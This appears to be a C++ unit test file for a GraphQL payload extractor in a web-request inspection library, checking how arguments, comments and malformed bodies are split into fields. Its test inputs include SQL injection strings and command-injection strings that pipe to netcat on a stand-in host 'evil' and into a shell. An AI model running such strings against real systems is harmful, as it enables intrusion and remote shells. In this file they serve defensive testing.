#include "inspect/payload/graphql_extractor.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>

#include "inspect/payload/testing.h"

namespace firebreak::inspect {
namespace {

using ::testing::ElementsAre;
using ::testing::IsEmpty;

constexpr absl::string_view kGraphql = "application/graphql";

TEST(GraphqlExtractor, GivesValuesByTheNameOfTheirArgument) {
  const TakenApart got = TakeApart(
      kGraphql,
      "query Q($n: Int = 5) { user(id: \"1' or \\u0031=1\", tags: [\"a\" 2.5]) { name } }");
  EXPECT_THAT(got.fields, ElementsAre("graphql Int = 5", "graphql id = 1' or 1=1",
                                      "graphql tags = a", "graphql tags = 2.5"));
  EXPECT_THAT(got.oddities, IsEmpty());
}

TEST(GraphqlExtractor, ReadsBlockStringsEmptyOnesAndComments) {
  const TakenApart got =
      TakeApart(kGraphql, "{ f(a: \"\", b: \"\"\"x \"y\" \\\"\"\" z\"\"\") # <script>\n }");
  EXPECT_THAT(got.fields, ElementsAre("graphql a = ", "graphql b = x \"y\" \\\"\"\" z",
                                      "graphql # =  <script>"));
}

TEST(GraphqlExtractor, CountsDepthAndNames) {
  BodyCase body{.type = std::string(kGraphql), .body = "{a{b{c}}}"};
  body.limits.max_graphql_depth = 2;
  body.limits.max_graphql_fields = 2;
  EXPECT_THAT(TakeApart(body).oddities, ElementsAre("graphql_depth", "graphql_fields"));
}

TEST(GraphqlExtractor, HandsOnWhatIsNoGraphql) {
  const TakenApart got = TakeApart(kGraphql, "{ a } ; drop table t");
  EXPECT_THAT(got.fields, ElementsAre("graphql = ; drop table t"));
  EXPECT_THAT(got.oddities, ElementsAre("graphql_syntax"));
}

TEST(GraphqlExtractor, HandsOnWhatBeginsAsNoDocument) {
  for (const char* const text : {"$(cat)| nc evil | sh & reboot", "x|id", "cat", "(a)"}) {
    const TakenApart got = TakeApart(kGraphql, text);
    EXPECT_THAT(got.fields, ElementsAre(absl::StrCat("graphql = ", text)));
  }
  EXPECT_THAT(TakeApart(kGraphql, "query Q($(id))").fields, ElementsAre("graphql = $(id))"));
  EXPECT_THAT(TakeApart(kGraphql, "query|nc h|sh").fields, ElementsAre("graphql = |nc h|sh"));
}

TEST(GraphqlExtractor, IsFoundInJsonSentToAGraphqlPath) {
  const TakenApart got =
      TakeApart({.type = "application/json",
                 .body = R"({"query":"{ u(id: \"x'\") }","variables":{"v":"<b>"}})",
                 .graphql = true});
  EXPECT_THAT(got.fields, ElementsAre("json $ + query", "graphql id = x'", "json $ + variables",
                                      "json $.variables + v", "json $.variables.v = <b>"));
  EXPECT_THAT(got.oddities, IsEmpty());
}

}  // namespace
}  // namespace firebreak::inspect
